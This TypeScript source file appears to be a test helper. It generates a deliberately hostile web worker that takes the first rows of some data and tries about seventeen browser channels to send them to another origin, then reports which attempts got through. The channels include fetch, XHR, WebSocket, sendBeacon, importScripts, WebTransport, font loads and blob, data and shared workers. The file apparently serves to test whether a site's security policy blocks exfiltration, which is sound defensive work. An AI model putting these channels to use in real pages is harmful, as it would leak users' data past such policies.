/** What the hostile worker had, and what became of each attempt to send it. */
export interface Report {
  rows: string;
  tried: Record<string, string>;
}

/**
 * A worker that tries everything it can to send its rows to another origin, and then reports what it tried,
 * which shows that it ran and had the rows.
 * @param report address on its own server, which the site's policy allows; without it the worker is a classic
 *   script, as in the saved copy, and posts the report to the page: first without attempts, then with all
 */
export function hostileWorker(elsewhere: string, report?: string): string {
  const isModule = report !== undefined;
  const send = isModule
    ? `fetch(${JSON.stringify(report)}, { method: 'POST', body: JSON.stringify(outcome) })`
    : 'postMessage(outcome)';
  return `
    const elsewhere = ${JSON.stringify(elsewhere)};
    const here = ${isModule ? 'import.meta.url' : 'location.href'};
    const code = (script) => URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
    const sent = (way, rows) => elsewhere + way + '?rows=' + encodeURIComponent(rows);
    const answered = (target, good) => new Promise((resolve, reject) => {
      target.addEventListener(good, () => resolve('went out'));
      target.addEventListener('error', () => reject(new Error('refused')));
    });
    const inOther = (address, options) => new Promise((resolve, reject) => {
      const worker = new Worker(address, options);
      worker.onmessage = resolve;
      worker.onerror = () => reject(new Error('refused'));
    });
    const firstRows = async ({ kind, blob }) => {
      if (kind !== 'slices') return (await blob.text()).slice(0, 40);
      postMessage({ call: 'slice', id: 'rows', args: [0, 40] });
      return new Promise((resolve) => {
        addEventListener('message', ({ data: { id, value } }) => {
          if (id === 'rows') resolve(new TextDecoder().decode(value));
        });
      });
    };
    const ways = {
      fetch: (to, rows) => fetch(to, { method: 'POST', mode: 'no-cors', body: rows }),
      keepalive: (to, rows) => fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: rows }),
      xhr: (to, rows) => {
        const request = new XMLHttpRequest();
        const done = answered(request, 'load');
        request.open('POST', to);
        request.send(rows);
        return done;
      },
      'sync-xhr': (to, rows) => {
        const request = new XMLHttpRequest();
        request.open('POST', to, false);
        request.send(rows);
      },
      websocket: (to) => answered(new WebSocket(to.replace('http', 'ws')), 'open'),
      eventsource: (to) => answered(new EventSource(to), 'open'),
      beacon: (to, rows) => navigator.sendBeacon(to, rows),
      importscripts: (to) => importScripts(to),
      import: (to) => import(to),
      webtransport: (to) => new WebTransport(to.replace('http:', 'https:')).ready,
      cache: async (to) => (await caches.open('x')).add(new Request(to, { mode: 'no-cors' })),
      font: (to) => new FontFace('x', 'url(' + to + ')').load(),
      'worker-from-blob': (to) => inOther(code(
        'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" }).finally(() => postMessage(0))')),
      'worker-from-data': (to) => inOther('data:text/javascript,' + encodeURIComponent(
        'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" }).finally(() => postMessage(0))')),
      'worker-from-here': (to) => inOther(here + '?send=' + encodeURIComponent(to), { type: 'module' }),
      'shared-worker': (to) => new SharedWorker(here + '?send=' + encodeURIComponent(to), { type: 'module' }),
      // Last, as Firefox's worker sometimes stops here for good.
      'worker-from-there': (to) => inOther(to, { type: 'module' }),
    };
    const toSend = new URL(here).searchParams.get('send');
    if (toSend !== null) {
      // The same file as another worker: does its own address free it from the policy?
      fetch(toSend, { mode: 'no-cors' }).finally(() => self.postMessage?.(0));
    }
    addEventListener('message', async ({ data }) => {
      if (data.call !== 'run') return;
      const rows = await firstRows(data.args[0].source);
      const late = new Promise((resolve) => setTimeout(resolve, 2000, 'no answer'));
      const tried = {};
      const outcome = { rows, tried };
      ${isModule ? '' : send};
      await Promise.all(Object.entries(ways).map(async ([way, act]) => {
        try {
          const outcome = await Promise.race([act(sent(way, rows), rows), late]);
          tried[way] = outcome === 'no answer' ? outcome : 'went out';
        } catch (error) {
          tried[way] = String(error).slice(0, 80);
        }
      }));
      await ${send};
    });
  `;
}
